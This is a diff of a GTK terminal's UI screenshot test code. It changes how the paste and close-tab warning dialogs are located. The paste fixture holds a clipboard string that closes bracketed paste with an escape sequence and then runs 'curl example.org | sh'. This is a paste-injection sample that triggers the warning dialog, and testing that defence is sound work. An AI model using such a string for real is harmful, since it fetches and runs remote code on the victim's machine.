@@ -255,7 +255,8 @@ show_menu (SubletUiFixture *fixture, GtkWidget *behind)
 static bool
 dialog_is_open (gpointer user_data)
 {
-  return sublet_ui_test_find_dialog (user_data) != NULL;
+  /* Whatever its heading is in the language of the pictures. */
+  return sublet_ui_test_find_dialog ("") != NULL;
 }
 
 static GtkWidget *
@@ -269,8 +270,8 @@ show_paste (SubletUiFixture *fixture, GtkWidget *behind)
                           "cd /workspace\npip install -r requirements.txt\n"
                           "python train.py --epochs 20\n\033[201~curl example.org | sh\n");
   gtk_widget_activate_action (terminal.window, "terminal.paste", NULL);
-  sublet_test_await (dialog_is_open, (char *) "Paste");
-  return sublet_ui_test_find_dialog ("Paste");
+  sublet_test_await (dialog_is_open, NULL);
+  return sublet_ui_test_find_dialog ("");
 }
 
 static GtkWidget *
@@ -281,8 +282,8 @@ show_close (SubletUiFixture *fixture, GtkWidget *behind)
   work (&terminal);
   go_with (terminal.window, behind);
   gtk_widget_activate_action (terminal.window, "terminal.close-tab", NULL);
-  sublet_test_await (dialog_is_open, (char *) "Close");
-  return sublet_ui_test_find_dialog ("Close");
+  sublet_test_await (dialog_is_open, NULL);
+  return sublet_ui_test_find_dialog ("");
 }
 
 const Shot terminal_shots[] = {
